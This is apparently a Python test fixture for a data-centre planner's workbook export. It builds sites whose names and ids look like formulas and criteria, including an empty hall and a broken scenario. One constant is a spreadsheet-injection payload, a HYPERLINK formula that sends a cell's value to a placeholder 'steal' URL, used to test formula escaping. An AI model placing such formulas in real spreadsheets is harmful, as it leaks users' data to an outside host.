"""Awkward sites for the workbook tests: hostile text, criteria characters, zero capacities."""

from __future__ import annotations

from dcplanner.model.site import Hall, Phase, Scenario, Site
from tests.factories import small_site

HOSTILE = '=HYPERLINK("http://example.invalid/steal?"&A1,"click")'


def hostile_site() -> Site:
    """The small test site with text that looks like formulas and ids that look like criteria.

    Hall ``A*`` (a SUMIFS wildcard) holds rows ``=R1`` and ``>R2``; a second hall has no rows
    and no IT budget; names start with ``=``, ``+``, ``-`` and ``@``; one scenario no longer
    applies to the base (its override is out of range).
    """
    site = small_site()
    site.name = HOSTILE
    site.description = "-2+3 plan\x07 with a bell character"
    site.location.name = "@SUM(1,2) 贵阳"
    hall = site.halls[0]
    hall.id, hall.name = "A*", "+1 hall"
    hall.rows[0].id, hall.rows[0].name = "=R1", "=1+1"
    hall.rows[1].id = ">R2"
    site.phases = [Phase(id="=P1", name="-phase")]
    for n, row in enumerate(hall.rows):
        for k, cab in enumerate(row.cabinets):
            cab.id = f"{row.id}-{k}"
            cab.name = HOSTILE if k == 0 else f"@cab {n}{k}"
            cab.phase_id = "=P1"
    site.halls.append(Hall(id="EMPTY", name="empty hall", x_m=20, width_m=5, depth_m=5, design_it_kw=0))
    site.scenarios = [
        Scenario(id="hot", name="=hot", overrides={"halls.*.rows.*.cabinets.*.design_kw": 12.0}),
        Scenario(id="broken", overrides={"halls.*.rows.*.cabinets.*.design_kw": -5.0}),
    ]
    return site


def unbudgeted_site() -> Site:
    """The small site with no IT budget in its hall: the budget check has no capacity."""
    site = small_site()
    site.halls[0].design_it_kw = 0
    return site
